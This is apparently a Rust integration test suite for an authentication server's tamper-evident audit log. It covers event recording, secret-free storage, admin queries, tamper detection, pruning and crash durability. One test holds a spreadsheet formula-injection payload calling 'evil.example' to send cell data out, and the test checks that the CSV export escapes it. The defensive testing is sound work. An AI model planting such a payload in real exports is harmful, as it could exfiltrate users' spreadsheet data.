use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::helpers::{expect_error, token, ServerProcess, TestApp, PASSWORD};

async fn events(app: &TestApp, admin: &str, query: &str) -> Vec<Value> {
    let res = app.get_auth(&format!("/admin/audit{query}"), admin).await;
    assert_eq!(res.status(), StatusCode::OK, "GET /admin/audit{query}");
    let body: Value = res.json().await.unwrap();
    body["events"].as_array().unwrap().clone()
}

async fn admin(app: &TestApp) -> String {
    let pair = app.signed_up("auditor@example.com").await;
    app.execute("UPDATE users SET is_admin = TRUE WHERE email = 'auditor@example.com'");
    token(&pair, "access_token")
}

fn one<'a>(events: &'a [Value], action: &str) -> &'a Value {
    let found: Vec<&Value> = events.iter().filter(|e| e["action"] == action).collect();
    assert!(!found.is_empty(), "no {action} in {events:#?}");
    found[0]
}

#[tokio::test]
async fn every_flow_is_audited_and_no_secret_is_stored() {
    let app = TestApp::spawn().await;
    let admin = admin(&app).await;

    // Registration, and a failed one.
    let res = app
        .client
        .post(app.url("/auth/register"))
        .header("x-request-id", "reg-1")
        .header("user-agent", "audit-test/1")
        .json(&json!({ "email": "eve@example.com", "password": PASSWORD }))
        .send()
        .await
        .unwrap();
    let eve: Value = res.json().await.unwrap();
    app.register("eve@example.com", PASSWORD).await;
    app.register("weak@example.com", "password1234").await;

    // Logins: success and the three failure reasons.
    let pair = app.logged_in("eve@example.com").await;
    app.login("eve@example.com", "wrong wrong wrong").await;
    app.login("nobody@example.com", PASSWORD).await;
    app.register("gone@example.com", PASSWORD).await;
    app.execute("UPDATE users SET disabled_at = 1 WHERE email = 'gone@example.com'");
    app.login("gone@example.com", PASSWORD).await;

    // Refresh, reuse, sessions, password change.
    let refreshed: Value = app
        .post(
            "/auth/refresh",
            &json!({ "refresh_token": token(&pair, "refresh_token") }),
        )
        .await
        .json()
        .await
        .unwrap();
    app.post(
        "/auth/refresh",
        &json!({ "refresh_token": token(&pair, "refresh_token") }),
    )
    .await;
    let second = app.logged_in("eve@example.com").await;
    let third = app.logged_in("eve@example.com").await;
    let path = format!("/auth/sessions/{}", third["session_id"].as_str().unwrap());
    app.delete_auth(&path, &token(&second, "access_token"))
        .await;
    let new_password = "a completely different passphrase";
    let res = app
        .post_auth(
            "/auth/password/change",
            &token(&second, "access_token"),
            Some(&json!({ "current_password": PASSWORD, "new_password": new_password })),
        )
        .await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    app.post_auth("/auth/logout", &token(&second, "access_token"), None)
        .await;
    let fourth = app
        .login("eve@example.com", new_password)
        .await
        .json::<Value>()
        .await
        .unwrap();
    app.post_auth("/auth/logout-all", &token(&fourth, "access_token"), None)
        .await;
    app.delete_auth("/admin/rate-limits?key=203.0.113.1", &admin)
        .await;

    let all = events(&app, &admin, "?limit=1000").await;
    let eve_id = eve["id"].as_str().unwrap();

    let reg = one(&all, "registration_success");
    let reg = all
        .iter()
        .find(|e| e["action"] == "registration_success" && e["user_id"] == eve_id)
        .unwrap_or(reg);
    assert_eq!(reg["request_id"], "reg-1");
    assert_eq!(reg["user_agent"], "audit-test/1");
    assert_eq!(reg["ip_address"], "127.0.0.1");
    let reasons: Vec<&str> = all
        .iter()
        .filter(|e| e["action"] == "registration_failed")
        .map(|e| e["extra_data"]["reason"].as_str().unwrap())
        .collect();
    assert!(
        reasons.contains(&"email_taken") && reasons.contains(&"validation_error"),
        "{reasons:?}"
    );

    let mut login_reasons: Vec<&str> = all
        .iter()
        .filter(|e| e["action"] == "login_failed")
        .map(|e| e["extra_data"]["reason"].as_str().unwrap())
        .collect();
    login_reasons.sort();
    assert_eq!(
        login_reasons,
        vec!["account_disabled", "unknown_email", "wrong_password"]
    );
    let wrong = all
        .iter()
        .find(|e| e["action"] == "login_failed" && e["extra_data"]["reason"] == "wrong_password")
        .unwrap();
    assert_eq!(wrong["user_id"], eve_id);

    let success = one(&all, "login_success");
    assert_eq!(success["resource_type"], "session");
    assert_eq!(
        one(&all, "token_refreshed")["resource_id"],
        refreshed["session_id"]
    );
    assert_eq!(
        one(&all, "refresh_token_reused")["resource_id"],
        pair["session_id"]
    );
    assert_eq!(
        one(&all, "session_revoked")["resource_id"],
        third["session_id"]
    );
    assert_eq!(one(&all, "password_changed")["user_id"], eve_id);
    assert_eq!(one(&all, "logout")["resource_id"], second["session_id"]);
    assert_eq!(one(&all, "logout_all")["user_id"], eve_id);
    let cleared = one(&all, "rate_limit_cleared");
    assert!(cleared["user_id"].is_null());
    assert!(cleared["extra_data"]["actor_id"].is_string());

    // Nothing secret anywhere in the database files.
    let mut secrets: Vec<String> = vec![
        PASSWORD.into(),
        new_password.into(),
        "wrong wrong wrong".into(),
    ];
    for p in [&pair, &refreshed, &second, &third, &fourth] {
        secrets.push(token(p, "access_token"));
        secrets.push(token(p, "refresh_token"));
    }
    let bytes = app.stored_bytes();
    for secret in &secrets {
        assert!(
            !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "the database holds a secret"
        );
    }
    let verdict: Value = app
        .get_auth("/admin/audit/verify", &admin)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(verdict["ok"], true);
    assert!(verdict["checked"].as_u64().unwrap() >= 20);
}

#[tokio::test]
async fn rate_limited_floods_fold_into_few_rows_that_add_up() {
    let app = TestApp::spawn().await;
    let admin = admin(&app).await;
    for _ in 0..35 {
        app.login("target@example.com", "guess guess guess").await;
    }
    let limited = events(&app, &admin, "?action=login_rate_limited").await;
    assert_eq!(limited.len(), 1);
    assert_eq!(limited[0]["extra_data"]["count"], 1);
    assert_eq!(limited[0]["extra_data"]["rule"], "login_ip");
    app.clock.advance(Duration::from_secs(61));
    app.state.audit.flush_folds(false).await.unwrap();
    let limited = events(&app, &admin, "?action=login_rate_limited").await;
    let counts: Vec<u64> = limited
        .iter()
        .map(|e| e["extra_data"]["count"].as_u64().unwrap())
        .collect();
    assert_eq!(counts, vec![29, 1]);
    assert_eq!(events(&app, &admin, "?action=login_failed").await.len(), 5);
}

#[tokio::test]
async fn admin_audit_filters_pages_and_refuses_bad_input() {
    let app = TestApp::spawn().await;
    let admin = admin(&app).await;
    for i in 0..4 {
        app.login(&format!("u{i}@example.com"), "guess guess guess")
            .await;
        app.clock.advance(Duration::from_secs(60));
    }
    let page: Value = app
        .get_auth("/admin/audit?limit=2", &admin)
        .await
        .json()
        .await
        .unwrap();
    let ids: Vec<i64> = page["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids.len(), 2);
    assert!(ids[0] > ids[1]);
    let next = page["next_before_id"].as_i64().unwrap();
    assert_eq!(next, ids[1]);
    let rest = events(&app, &admin, &format!("?limit=1000&before_id={next}")).await;
    assert!(rest.iter().all(|e| e["id"].as_i64().unwrap() < next));
    let last: Value = app
        .get_auth(&format!("/admin/audit?before_id={next}"), &admin)
        .await
        .json()
        .await
        .unwrap();
    assert!(last["next_before_id"].is_null());

    assert_eq!(events(&app, &admin, "?action=login_failed").await.len(), 4);
    assert_eq!(
        events(&app, &admin, "?action=login_failed&since=150s")
            .await
            .len(),
        2
    );
    assert_eq!(
        events(&app, &admin, "?ip=127.0.0.1&action=login_failed")
            .await
            .len(),
        4
    );
    assert_eq!(events(&app, &admin, "?ip=10.1.1.1").await.len(), 0);

    for bad in [
        "?since=yesterday",
        "?action=nope",
        "?limit=-1",
        "?before_id=abc",
    ] {
        let res = app.get_auth(&format!("/admin/audit{bad}"), &admin).await;
        assert_eq!(res.status(), StatusCode::BAD_REQUEST, "{bad}");
    }
    let pair = app.signed_up("someone@example.com").await;
    let res = app
        .get_auth("/admin/audit", &token(&pair, "access_token"))
        .await;
    expect_error(res, StatusCode::FORBIDDEN, "forbidden").await;
    let res = app
        .get_auth("/admin/audit/verify", &token(&pair, "access_token"))
        .await;
    expect_error(res, StatusCode::FORBIDDEN, "forbidden").await;
}

#[tokio::test]
async fn tampering_is_found_by_the_route_and_the_cli() {
    let app = TestApp::spawn().await;
    let admin = admin(&app).await;
    for i in 0..4 {
        app.login(&format!("t{i}@example.com"), "guess guess guess")
            .await;
    }
    let out = app.cli().args(["audit", "verify"]).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // CLI list while the server runs, in each format.
    let out = app
        .cli()
        .args([
            "audit",
            "list",
            "--format",
            "json",
            "--action",
            "login_failed",
            "--since",
            "1h",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let listed: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(listed.as_array().unwrap().len(), 4);
    let out = app
        .cli()
        .args(["audit", "list", "--format", "csv"])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with("id,created_at,action,user_id,resource_type,resource_id,ip_address,user_agent,extra_data,request_id,prev_hash,hash\n"));
    // A client's user agent that a spreadsheet would run as a formula is written as text.
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let res = app
        .client
        .post(app.url("/auth/login"))
        .header("user-agent", evil)
        .json(&json!({"email": "csv@example.com", "password": "guess guess guess"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    let out = app
        .cli()
        .args(["audit", "list", "--format", "csv", "--limit", "1"])
        .output()
        .unwrap();
    let mut reader = csv::Reader::from_reader(&out.stdout[..]);
    let row = reader.records().next().expect("a row").expect("csv");
    assert_eq!(&row[2], "login_failed");
    assert_eq!(&row[7], format!("'{evil}"));
    let out = app
        .cli()
        .args(["audit", "list", "--user", "auditor@example.com"])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("login_success"));
    let out = app
        .cli()
        .args(["audit", "list", "--since", "soon"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).starts_with("error: --since"));

    let target = app.count(
        "SELECT id FROM audit_log WHERE action = 'login_failed' ORDER BY id LIMIT 1 OFFSET 1",
    );
    app.execute(&format!(
        "UPDATE audit_log SET ip_address = '10.0.0.1' WHERE id = {target}"
    ));
    let verdict: Value = app
        .get_auth("/admin/audit/verify", &admin)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(verdict["ok"], false);
    assert_eq!(verdict["first_bad_id"], target);
    let out = app.cli().args(["audit", "verify"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
}

#[tokio::test]
async fn pruning_from_the_cli_keeps_the_chain_green() {
    let app = TestApp::spawn().await;
    let admin = admin(&app).await;
    app.login("p@example.com", "guess guess guess").await;
    let out = app
        .cli()
        .args(["audit", "prune", "--older-than", "0s"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    app.login("p@example.com", "guess guess guess").await;
    let verdict: Value = app
        .get_auth("/admin/audit/verify", &admin)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(verdict["ok"], true, "{verdict}");
    let pruned = events(&app, &admin, "?action=audit_pruned").await;
    assert_eq!(pruned.len(), 1);
    assert_eq!(pruned[0]["extra_data"]["actor_id"], "cli");
}

/// `kill -9` during a stream of audited requests loses no acknowledged event.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn kill_dash_nine_loses_no_acknowledged_event() {
    let dir = tempfile::tempdir().unwrap();
    let mut server = ServerProcess::start(
        dir.path(),
        &[],
        &[
            ("PORTCULLIS_PASSWORDS__ARGON2_MEMORY_KIB", "64"),
            ("PORTCULLIS_RATE_LIMIT__RULES__LOGIN_IP__ENABLED", "false"),
            (
                "PORTCULLIS_RATE_LIMIT__RULES__LOGIN_ACCOUNT__ENABLED",
                "false",
            ),
        ],
    );
    let address = server.address.clone();

    let acked = Arc::new(Mutex::new(Vec::<String>::new()));
    let stop = Arc::new(AtomicBool::new(false));
    let mut workers = Vec::new();
    for w in 0..8 {
        let (acked, stop, address) = (acked.clone(), stop.clone(), address.clone());
        workers.push(tokio::spawn(async move {
            let client = crate::helpers::http_client();
            let mut n = 0;
            while !stop.load(Ordering::SeqCst) {
                let id = format!("kill-{w}-{n}");
                n += 1;
                let sent = client
                    .post(format!("http://{address}/auth/login"))
                    .header("x-request-id", &id)
                    .json(&json!({ "email": format!("k{w}@example.com"), "password": "guess guess guess" }))
                    .send()
                    .await;
                match sent {
                    Ok(res) if res.status() == StatusCode::UNAUTHORIZED => acked.lock().unwrap().push(id),
                    _ => break,
                }
            }
        }));
    }
    // Kill once enough responses are acknowledged, with requests still in flight.
    loop {
        if acked.lock().unwrap().len() >= 400 {
            break;
        }
        tokio::task::yield_now().await;
    }
    server.signal("-KILL");
    stop.store(true, Ordering::SeqCst);
    for w in workers {
        let _ = w.await;
    }

    let acked = acked.lock().unwrap().clone();
    assert!(acked.len() >= 400);
    let mut conn = rusqlite::Connection::open(dir.path().join("portcullis.db")).unwrap();
    let mut stmt = conn
        .prepare("SELECT 1 FROM audit_log WHERE request_id = ?1 AND action = 'login_failed'")
        .unwrap();
    let missing: Vec<&String> = acked
        .iter()
        .filter(|id| !stmt.exists([id.as_str()]).unwrap())
        .collect();
    assert!(
        missing.is_empty(),
        "{} acknowledged events lost, e.g. {:?}",
        missing.len(),
        &missing[..missing.len().min(5)]
    );
    let integrity: String = conn
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap();
    assert_eq!(integrity, "ok");
    drop(stmt);
    let verdict = portcullis::store::audit::verify_sqlite(&mut conn).unwrap();
    assert!(verdict.ok, "{verdict:?}");
}

/// A password typed into the email field never lands in the audit log: the
/// attempted email is recorded only when it is an address.
#[tokio::test]
async fn only_valid_addresses_are_recorded_as_attempted_emails() {
    let app = TestApp::spawn_with(crate::helpers::without_limits).await;
    let admin = admin(&app).await;
    let typed_password = "Tr0ub4dor&3 Horse Staple";
    app.login(typed_password, "whatever whatever").await;
    app.login("Nobody@Example.com", "whatever whatever").await;
    app.post(
        "/auth/register",
        &json!({ "email": "my secret passphrase", "password": PASSWORD }),
    )
    .await;
    let all = events(&app, &admin, "?limit=1000").await;
    let failed: Vec<&Value> = all
        .iter()
        .filter(|e| e["action"] == "login_failed" || e["action"] == "registration_failed")
        .collect();
    assert_eq!(failed.len(), 3, "{failed:?}");
    let malformed = failed
        .iter()
        .filter(|e| e["extra_data"]["email_malformed"] == true)
        .count();
    assert_eq!(malformed, 2, "{failed:?}");
    assert!(failed
        .iter()
        .any(|e| e["extra_data"]["email"] == "nobody@example.com"));
    // Nowhere in the database either.
    let stored = app.stored_bytes();
    for secret in [
        typed_password.to_lowercase(),
        "my secret passphrase".to_owned(),
    ] {
        assert!(
            !stored.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "{secret} is stored"
        );
    }
}
